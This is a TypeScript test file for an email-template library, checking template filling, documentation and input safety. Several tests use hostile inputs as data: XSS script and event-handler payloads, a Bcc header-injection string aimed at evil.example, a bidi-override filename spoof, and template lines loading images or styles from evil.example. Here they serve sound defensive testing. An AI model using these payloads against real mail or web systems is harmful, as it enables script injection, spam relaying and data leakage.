import { readFileSync } from 'node:fs';
import PostalMime from 'postal-mime';
import { describe, expect, test } from 'vitest';
import { mailTemplates } from '#model/mail.ts';
import { defaultTemplates } from './defaults.ts';
import { sampleValues } from './samples.ts';
import { BrokenTemplateError, fill, readTemplate } from './template.ts';

const sample = { name: 'Ada', note: 'x', linkUrl: 'https://x', on: true, lines: [{ item: 'a' }] };
const source = (html: string, text = 'Hello {{name}}', subject = 'For {{name}}') =>
  `Subject: ${subject}\n\n${text}\n--- html ---\n${html}\n`;
const filled = (values: Partial<typeof sample>, template = source('<p title="{{note}}">{{name}}</p>')) =>
  fill(readTemplate(template, sample), { ...sample, ...values });

describe('every template of the code', () => {
  const page = readFileSync('docs/mail.md', 'utf8');

  test.each(mailTemplates)('%s stands in docs/mail.md with all that it is given', (name) => {
    const undocumented = [name, ...Object.keys(sampleValues[name])].filter((word) => !page.includes(`\`${word}\``));
    expect(undocumented).toEqual([]);
  });

  test.each(mailTemplates)('%s shows all that it is given, in text and in HTML', (name) => {
    const values = sampleValues[name];
    const { subject, text, html } = fill(readTemplate(defaultTemplates[name], values), values);
    expect(subject).toMatch(/^.{5,}$/u);
    for (const part of [subject, text, html]) {
      expect(part).not.toMatch(/undefined|null|NaN|\[object|\{\{|\}\}/u);
    }
    expect(html).toMatch(/^<!doctype html>\n<html lang="en">/u);
    expect(html).toContain(`<title>${subject}</title>`);
    expect(html).not.toMatch(/<img|<link|<script|\ssrc=|url\(/iu);
  });

  test('shows the lines of an order with their taxes, and the totals', () => {
    const values = sampleValues['order-confirmed'];
    const { text, html } = fill(readTemplate(defaultTemplates['order-confirmed'], values), values);
    expect(text).toContain('2 x Tour T-shirt, black, M\n    25.00 EUR each: 50.00 EUR, and 9.50 EUR tax (19.00 %)\n');
    expect(text).toContain('Total:    59.50 EUR');
    expect(html).toContain('<th scope="row"');
    expect(html).toContain('<strong>59.50 EUR</strong>');
  });

  test('leaves out what an order does not have', () => {
    const values = { ...sampleValues['order-confirmed'], shippingNote: '' };
    const { text, html } = fill(readTemplate(defaultTemplates['order-confirmed'], values), values);
    expect(text + html).not.toContain('Your note');
  });

  test('answers a mailed invoice as it always did', () => {
    const values = sampleValues['invoice-answer'];
    expect(fill(readTemplate(defaultTemplates['invoice-answer'], values), values)).toMatchObject({
      subject: 'Re: Invoice 4711',
      text:
        'This is what became of the attachments:\n\n' +
        '- invoice.pdf: taken in and read.\n  https://marquee.example/invoices/9b1e\n' +
        '- archive.zip: not taken. This file is not a PDF, PNG, JPEG, TIFF or XML.\n\n' +
        'This answer was written by a machine.\n',
    });
  });
});

describe('a value', () => {
  const HOSTILE = `</p><script>alert(1)</script><img src=x onerror='y' title="z"> & co`;

  test('is text in the HTML, whatever it holds', () => {
    const { html, text } = filled({ name: HOSTILE, note: '" onmouseover="alert(1)' });
    expect(html).not.toMatch(/<script|<img|onmouseover="alert/u);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('title="&quot; onmouseover=&quot;alert(1)"');
    expect(text).toContain(HOSTILE);
  });

  test('is text in the title of the HTML, too, which the subject is', () => {
    expect(filled({ name: '</title><script>x</script>' }).html).toContain('&lt;/title&gt;&lt;script&gt;');
  });

  test('cannot begin a header: the subject is one line', async () => {
    for (const breaks of ['\r\n', '\n', '\r', '\u2028', '\u2029', '\t', '\u0000\r\n']) {
      const { subject } = filled({ name: `x${breaks}Bcc: all@evil.example` });
      expect(subject).toBe('For x Bcc: all@evil.example');
      const mail = await PostalMime.parse(`Subject: ${subject}\r\n\r\nbody`);
      expect(mail.headers).toHaveLength(1);
    }
  });

  test('cannot turn the direction of its line, or hide in it', () => {
    const { text, html, subject } = filled({ name: 'abc\u202Efdp.exe\u200F\u2066\u0000\u0007\uFEFF' });
    for (const part of [text, html, subject]) {
      expect(part).toContain('abcfdp.exe');
      expect(part).not.toMatch(/[\u0000\u0007\u200F\u202E\u2066\uFEFF]/u);
    }
  });

  test('is no template', () => {
    expect(filled({ name: '{{note}} {{{note}}} {{#lines}}' }).text).toContain('{{note}} {{{note}}} {{#lines}}');
  });

  test('may be huge: the subject is cut, and no character in half', () => {
    const { subject, text } = filled({ name: '😀'.repeat(20_000) });
    expect(subject.length).toBeLessThanOrEqual(200);
    expect(subject.isWellFormed()).toBe(true);
    expect(text).toHaveLength('Hello \n'.length + 40_000);
  });
});

describe('a template is refused', () => {
  test.each([
    ['without a subject', 'Hello\n\nx\n--- html ---\n<p>y</p>'],
    ['without HTML', 'Subject: x\n\nHello'],
    ['with two parts of HTML', source('<p>x</p>\n--- html ---\n<p>y</p>')],
    ['whose text is empty', source('<p>x</p>', '')],
    ['that names a value that is not there', source('{{nmae}}')],
    ['that names a value of a list outside it', source('{{item}}')],
    ['that names what every object has', source('{{constructor}}')],
    ['that shows a list as a text', source('{{lines}}')],
    ['that shows a truth as a text', source('{{on}}')],
    ['that shows a value as HTML', source('{{{name}}}')],
    ['that shows a value as HTML by another sign', source('{{&name}}')],
    ['that asks for another template', source('{{>name}}')],
    ['that leaves a section open', source('{{#lines}}{{item}}')],
    ['that loads a picture', source('<img src="https://evil.example/{{name}}">')],
    ['that loads a style', source('<p style="background:url(https://evil.example)">x</p>')],
    ['that runs a script', source('<p onclick="x()">x</p>')],
    ['that is longer than any mail', source('x'.repeat(100_001))],
  ])('%s', (_, template) => {
    expect(() => readTemplate(template, sample)).toThrow(BrokenTemplateError);
  });

  test('but not one that uses every value and kind of tag', () => {
    const html =
      '{{#lines}}<p>{{item}} {{name}}</p>{{/lines}}{{^lines}}none{{/lines}}{{#on}}<a href="{{linkUrl}}">x</a>{{/on}}';
    expect(filled({ on: true }, source(html)).html).toContain('<p>a Ada</p><a href="https://x">x</a>');
    expect(filled({ on: false, lines: [] }, source(html)).html).toContain('\nnone\n');
  });

  test('and with other line ends it is the same template', () => {
    expect(filled({}, source('<p>{{name}}</p>').replaceAll('\n', '\r\n'))).toMatchObject({
      subject: 'For Ada',
      text: 'Hello Ada\n',
    });
  });
});
